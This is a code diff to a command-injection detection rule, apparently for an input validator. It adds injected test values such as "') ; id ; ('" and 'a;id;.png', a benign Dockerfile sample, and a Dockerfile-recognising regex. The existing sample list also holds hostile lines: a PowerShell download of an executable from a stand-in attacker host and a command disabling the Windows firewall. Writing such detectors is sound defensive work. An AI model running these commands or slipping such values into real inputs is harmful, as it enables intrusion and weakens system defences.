@@ -31,6 +31,8 @@ export const chainedCommand: ValueRule = {
     '10.0.0.1; . /tmp/setup',
     '10.0.0.1 & netsh advfirewall set allprofiles state off',
     "x') ; whoami ; (",
+    "') ; id ; ('",
+    'a;id;.png',
     'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
     '; openssl s_client -connect 192.0.2.9:443',
     '; grep one two three four five six seven eight > /tmp/x',
@@ -57,6 +59,7 @@ export const chainedCommand: ValueRule = {
     '$sum = 5 + 6; echo $sum;',
     'cmd & powershell tips for beginners',
     'tls; openssl and friends',
+    'FROM node:22\nRUN apk add curl && rm -rf /var/cache/apk/*\nCMD ["node","a.js"]',
   ],
 };
 
@@ -96,6 +99,7 @@ function scoreOf(text: string, command: Command, isName: boolean): number {
   if (isAlternative(text, command)) return 35;
   if (loopWords.has(command.name) && script.test(text)) return 60;
   if (command.name === 'echo' && program.test(text)) return 60;
+  if (imageRecipe.test(text.slice(0, 120))) return 60;
   if (command.fit === fit.none) return 0;
   const isValue = followsValue(text, head.start);
   switch (command.fit) {
@@ -119,6 +123,9 @@ function scoreOf(text: string, command: Command, isName: boolean): number {
 const loopWords: ReadonlySet<string> = new Set(['do', 'then', 'else']);
 /** A script that somebody shows: its loop begins the text. */
 const script = /^\s{0,4}(?:for|while|until|if|select)\s/;
+
+/** A Dockerfile, whose steps are chains of commands. */
+const imageRecipe = /^(?:#[^\n]{0,80}\n)?FROM [\w./:-]{1,80}(?: AS \w{1,20})?\r?\n/i;
 
 /** `$x = 5; echo $x;`: PHP that somebody shows. */
 const program = /^\s{0,4}\$\w{1,40} {0,2}=[^=][^;|&]{0,80}; {0,2}echo \$\w{1,40} {0,2};?\s{0,4}$/;
